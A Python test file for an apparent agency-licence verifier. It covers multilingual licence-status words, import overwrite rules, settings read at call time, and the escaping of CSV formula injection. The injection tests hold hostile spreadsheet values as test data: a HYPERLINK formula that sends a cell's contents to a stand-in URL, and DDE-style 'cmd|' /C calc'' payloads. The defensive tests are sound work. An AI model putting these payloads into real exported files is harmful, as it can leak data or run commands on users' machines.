"""Status words (one exact vocabulary), what an import may overwrite, CSV formula injection, and
settings read at call time.

The lists written here are MADE UP for the test (files named fixture_*/invented): names and numbers
are invented; the status words are the ones registries use.
"""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from scraper_helpers import ROOT, cli, query

from scrapers import importer, kz_kgd, ph_dmw
from verifier.records import statuses, template
from scrapers.http import Fetcher
from tests.conftest import ENGINES, new_app_db

NOT_IN_FORCE = {  # every usual word for a licence that is not in force, as registries write them
    "en": ["Inactive", "INACTIVE", "Suspended", "Expired", "Revoked", "Withdrawn", "Annulled", "Cancelled",
           "Canceled", "Not valid", "License not valid", "Licence not valid", "Unlicensed", "Not licensed",
           "Invalid", "Not active", "License expired", "  suspended. ", "Forever Banned", "Delisted"],
    "ru": ["Не действует", "не действует.", "НЕДЕЙСТВИТЕЛЬНА", "Неактивна", "Приостановлена", "Приостановлено",
           "Истекла", "Срок действия истёк", "Отозвана", "Аннулирована", "Прекращена", "Лицензия отозвана",
           "Без лицензии", "Не лицензирован"],
    "kk": ["Жарамсыз", "Жарамды емес", "Қолданыста емес", "Тоқтатылды", "Уақытша тоқтатылды",
           "Кері қайтарылды", "Күші жойылды", "Мерзімі өткен", "Белсенді емес", "Лицензиясыз"],
    "uz": ["Amalda emas", "Faol emas", "To'xtatilgan", "Toʻxtatilgan", "Bekor qilingan", "Muddati o'tgan",
           "Qaytarib olingan", "Litsenziyasiz", "Yaroqsiz", "Haqiqiy emas", "Тўхтатилган", "Бекор қилинган",
           "Muddati tugadi", "Муддати тугади"],
    "ru (review)": ["Отменено", "Лицензия прекращена", "Не действующая", "Не действующий"],
}
IN_FORCE = ["valid", "Valid", "VALID LICENSE", "Valid License - Provisional", "Licensed", "Active",
            "Действует", "действует", "Действующая", "Жарамды", "жарамды", "Amalda", "amal qiladi", "Faol"]


@pytest.mark.parametrize("word", [w for words in NOT_IN_FORCE.values() for w in words])
def test_a_licence_not_in_force_is_never_valid(word):
    assert statuses.group_of(word) == "invalid", word
    assert importer.status_group(word, "registry") != "valid"


@pytest.mark.parametrize("word", IN_FORCE)
def test_a_licence_in_force_is_valid(word):
    assert statuses.group_of(word) == "valid"


@pytest.mark.parametrize("word", ["", "Pending", "Under review", "active?? maybe", "действующая не", "listed",
                                  "Inactive since 2020", "valid until 2019"])
def test_other_words_are_unknown_not_guessed(word):
    assert statuses.group_of(word) == "unknown"


def test_the_table_has_each_language_for_both_groups():
    for group in ("valid", "invalid"):
        assert set(statuses.VOCABULARY[group]) == {"en", "ru", "kk", "uz"}
    assert not set(statuses.VOCABULARY["valid"]["en"]) & set(statuses.VOCABULARY["invalid"]["en"])


def test_every_published_dmw_status_is_in_the_table():
    for word in ("Valid License - Full", "VALID LICENSE (EXTENDED)", "Suspended (Document Processing)",
                 "Cash Bond Withdrawn", "Ceased Operations", "Denied Renewal", "Preventive Suspension"):
        assert ph_dmw.status_group(word) != "unknown", word


def _csv(rows, header=("name", "status")) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue()


def test_import_counts_groups_lists_unknown_words_and_reads_a_status_map(tmp_path):
    path = tmp_path / "fixture_invented_registry.csv"
    path.write_text(_csv([["Invented Alpha Agency", "Inactive"], ["Invented Beta Agency", "Действует"],
                          ["Invented Gamma Agency", "Не действует"], ["Invented Delta Agency", "Pending renewal"],
                          ["Invented Epsilon Agency", ""], ["Invented Zeta Agency", "Продлена"]]), encoding="utf-8")
    db = tmp_path / "verifier.db"
    result = cli(db, "import", str(path), "--source-id", "fixture_registry", "--kind", "registry")
    assert result.returncode == 0, result.stderr
    assert "statuses: invalid 2, unknown 3, valid 1; unknown words: 'Pending renewal', 'Продлена'" in result.stdout
    groups = dict(query(db, "select name, status_group from agencies"))
    assert groups == {"Invented Alpha Agency": "invalid", "Invented Beta Agency": "valid",
                      "Invented Gamma Agency": "invalid", "Invented Delta Agency": "unknown",
                      "Invented Epsilon Agency": "unknown", "Invented Zeta Agency": "unknown"}
    words = tmp_path / "fixture_status_map.csv"
    words.write_text("word,group\nПродлена,valid\npending renewal,invalid\n", encoding="utf-8")
    result = cli(db, "import", str(path), "--source-id", "fixture_registry", "--kind", "registry",
                 "--status-map", str(words))
    assert result.returncode == 0, result.stderr
    groups = dict(query(db, "select name, status_group from agencies"))
    assert groups["Invented Zeta Agency"] == "valid" and groups["Invented Delta Agency"] == "invalid"
    words.write_text("Продлена,licensed\n", encoding="utf-8")
    bad = cli(db, "import", str(path), "--source-id", "fixture_registry", "--kind", "registry", "--status-map", str(words))
    assert bad.returncode == 1 and "valid or invalid" in bad.stderr


def test_a_warning_list_row_stays_a_warning(tmp_path):
    rows = importer.to_records([{"name": "Invented Co", "status": "Active"}], "warning", "KZ")
    assert rows[0].status_group == "warning"


# --- what an import may overwrite --------------------------------------------------------------

def test_import_refuses_a_built_in_id_and_keeps_its_records(db, tmp_path):
    path = tmp_path / "fixture_one.csv"
    path.write_text(_csv([["Invented One Agency", "valid"]]), encoding="utf-8")
    before = query(db, "select id, removed_at from agencies where source = 'kz_kgd' order by id")
    result = cli(db, "import", str(path), "--source-id", "kz_kgd", "--kind", "registry")
    assert result.returncode == 1
    assert "'kz_kgd' is a built-in or configured source" in result.stderr
    after = query(db, "select id, removed_at from agencies where source = 'kz_kgd' order by id")
    assert after == before and len(after) == 1853 and not any(r[1] for r in after)


def test_import_refuses_a_configured_id(tmp_path):
    conf = tmp_path / "sources.toml"
    conf.write_text('[[source]]\nid = "invented_cfg"\nkind = "warning"\nurl = "http://127.0.0.1:9/x.csv"\n'
                    'format = "csv"\n[source.columns]\nname = "Name"\n', encoding="utf-8")
    path = tmp_path / "fixture_one.csv"
    path.write_text(_csv([["Invented One Agency", ""]]), encoding="utf-8")
    result = cli(tmp_path / "v.db", "import", str(path), "--source-id", "invented_cfg", "--kind", "warning",
                 env={"VERIFIER_SOURCES": str(conf)})
    assert result.returncode == 1 and "configured source" in result.stderr
    assert not (tmp_path / "v.db").exists()


def test_changing_the_kind_of_an_imported_list_needs_replace(tmp_path):
    path = tmp_path / "fixture_one.csv"
    path.write_text(_csv([["Invented One Agency", "valid"]]), encoding="utf-8")
    db = tmp_path / "v.db"
    assert cli(db, "import", str(path), "--source-id", "fixture_ngo", "--kind", "warning").returncode == 0
    again = cli(db, "import", str(path), "--source-id", "fixture_ngo", "--kind", "registry")
    assert again.returncode == 1 and "--replace" in again.stderr
    assert query(db, "select kind from sources where id = 'fixture_ngo'") == [("warning",)]
    assert query(db, "select status_group from agencies") == [("warning",)]
    replaced = cli(db, "import", str(path), "--source-id", "fixture_ngo", "--kind", "registry", "--replace")
    assert replaced.returncode == 0, replaced.stderr
    assert query(db, "select status_group, list_kind from agencies") == [("valid", "registry")]
    assert cli(db, "import", str(path), "--source-id", "fixture_ngo", "--kind", "registry").returncode == 0


# --- CSV formula injection -------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x"&B2,"Open")'


@pytest.mark.parametrize("engine", ENGINES)
def test_an_exported_formula_is_text_and_imports_back(tmp_path, monkeypatch, request, engine):
    from verifier import appdb
    from verifier.appdb import ngo
    monkeypatch.setenv("VERIFIER_APP_DB", str(new_app_db(engine, request, tmp_path)))
    assert ngo.EXPORT_COLUMNS is importer.COLUMNS
    appdb.create_staff("alice", "correct horse battery", "test")
    for name, phone in ((FORMULA_NAME, "+7 701 555 01 99"), ("@SUM(1+1)*cmd|' /C calc'!A0", "-1")):
        ngo.approve(appdb.submit_report({"kind": "report", "name": name, "phone": phone, "details": "invented"}),
                    "alice", "+reason starting with a plus")
    out = io.StringIO()
    ngo.export_csv(out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "@") or c[:1] in ("+", "-")], cells   # no live formula
    assert f"'{FORMULA_NAME}" in cells and "'+7 701 555 01 99" in cells    # a phone starting with + too
    path = tmp_path / "fixture_export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    records = importer.to_records(importer.read_rows(path), "warning", "KZ")
    assert sorted(r.name for r in records) == sorted([FORMULA_NAME, "@SUM(1+1)*cmd|' /C calc'!A0"])
    assert {r.reason for r in records} == {"+reason starting with a plus"}


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A1", "@SUM(A1)", "\t=1", "\r=1",
                                  "'=already quoted", "plain", "", "+7 701 555 01 99", "-", "8 (727) 250-12-34"])
def test_spreadsheet_safe_round_trips(text):
    safe = template.spreadsheet_safe(text)
    assert template.from_spreadsheet_safe(safe) == text
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))


# --- settings read at call time ----------------------------------------------------------------

def test_no_scraper_module_reads_the_environment_at_import():
    """URLs, timeouts and keys are read when used, so a test or a deployer can change them."""
    for path in sorted((ROOT / "scrapers").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in tree.body:
            if isinstance(node, (ast.Assign, ast.AnnAssign, ast.Expr)):
                assert "os.environ" not in ast.unparse(node), f"{path.name}: {ast.unparse(node)[:80]}"
        assert "os.environ[" not in path.read_text(encoding="utf-8").replace("os.environ.get", ""), path.name


def test_urls_and_timeouts_follow_the_environment(monkeypatch):
    monkeypatch.setenv("DMW_API_URL", "http://127.0.0.1:9/dmw")
    monkeypatch.setenv("KGD_URL_TEMPLATE", "http://127.0.0.1:9/{code}.xlsx")
    monkeypatch.setenv("VERIFIER_READ_TIMEOUT", "7")
    monkeypatch.setenv("VERIFIER_SOURCE_TIMEOUT", "12")
    from scrapers import runner
    assert ph_dmw.api_url() == "http://127.0.0.1:9/dmw"
    assert kz_kgd.list_url("INACTIVE") == "http://127.0.0.1:9/INACTIVE.xlsx"
    assert Fetcher("x", None).timeout[1] == 7.0 and runner.source_timeout() == 12.0
    assert not hasattr(ph_dmw, "API") and not hasattr(kz_kgd, "URL") and not hasattr(runner, "SOURCE_TIMEOUT")
    assert Path(ROOT / "scrapers" / "http.py").read_text().count("TIMEOUT =") == 0
